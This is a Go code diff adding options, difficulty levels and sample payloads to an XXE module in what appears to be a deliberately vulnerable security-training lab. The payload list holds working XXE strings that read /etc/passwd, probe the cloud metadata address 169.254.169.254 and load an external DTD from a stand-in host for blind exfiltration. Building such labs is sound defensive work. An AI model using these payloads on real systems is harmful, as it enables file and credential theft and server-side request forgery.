@@ -28,11 +28,46 @@ func (m *XXE) Info() ModuleInfo {
 			"json_field",
 			"header",
 			"cookie",
+			"raw_body",
+			"soap_param",
 		},
 		RequiresSink: "", // Can optionally use filesystem sink for file reading
 		ValidVariants: map[string][]string{
 			"filter": {"none", "basic_doctype", "basic_entity", "external_entities"},
 		},
+		ConfigKeys: []string{
+			"allow_file_read", "emulate_resolution", "max_entity_depth", "oob_resolution", "show_decoded",
+			"max_oob_requests", "oob_hosts",
+		},
+		Difficulty: map[string]map[string]interface{}{
+			"easy":   {"filter": "none", "show_decoded": true},
+			"medium": {"filter": "basic_doctype", "show_decoded": true},
+			"hard":   {"filter": "basic_entity", "show_decoded": false},
+		},
+		Options: map[string]Option{
+			"filter":             {Description: "Check on the XML: none, basic_doctype (rejects <!DOCTYPE), basic_entity (rejects <!ENTITY) or external_entities (rejects SYSTEM, PUBLIC and URL schemes, case-insensitively)", Default: "none"},
+			"show_decoded":       {Description: "Return the parsed document and resolved entities", Default: "true"},
+			"emulate_resolution": {Description: "Resolve external entities to file contents and responses, as a vulnerable parser would", Default: "true"},
+			"allow_file_read":    {Description: "Let file:// entities return the lab's files", Default: "true"},
+			"max_entity_depth":   {Description: "Deepest entity nesting expanded, bounding billion laughs payloads", Default: "10"},
+			"oob_resolution":     {Description: "Actually request entity URLs that point at the OOB listener or oob_hosts, for blind XXE", Default: "false"},
+			"max_oob_requests":   {Description: "Most OOB requests one document makes", Default: "5"},
+			"oob_hosts":          {Description: "Extra hosts OOB entity URLs are requested from, besides the OOB listener's"},
+		},
+		Example: `- path: /api/import
+  method: POST
+  response_type: json
+  vulnerabilities:
+    - type: xxe
+      placement: raw_body
+      config:
+        filter: none
+`,
+		Payloads: []string{
+			`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
+			`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/">]><r>&x;</r>`,
+			`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://oob.example/x.dtd"> %p;]><r/>`,
+		},
 	}
 }
 
@@ -53,6 +88,7 @@ type XXEResult struct {
 	SimulatedOutput  string                 `json:"simulated_output,omitempty"`
 	Error            string                 `json:"error,omitempty"`
 	ParsedData       map[string]interface{} `json:"parsed_data,omitempty"`
+	OOBInteractions  []OOBInteraction       `json:"oob_interactions,omitempty"`
 }
 
 // ExternalEntityInfo holds information about a detected external entity
@@ -142,6 +178,11 @@ func processXMLPayload(input string, showDecoded, emulateResolution, allowFileRe
 		emulateEntityResolution(result, decoded, allowFileRead, ctx)
 	}
 
+	// Actually request entity URLs that point at the OOB listener
+	if ctx != nil && ctx.GetConfigBool("oob_resolution", false) && result.Exploitable {
+		resolveOOBEntities(result, decoded, ctx)
+	}
+
 	// Add warning if exploitable patterns detected
 	if result.Exploitable {
 		result.Warning = fmt.Sprintf("XXE vulnerability detected: %s attack pattern found", result.AttackType)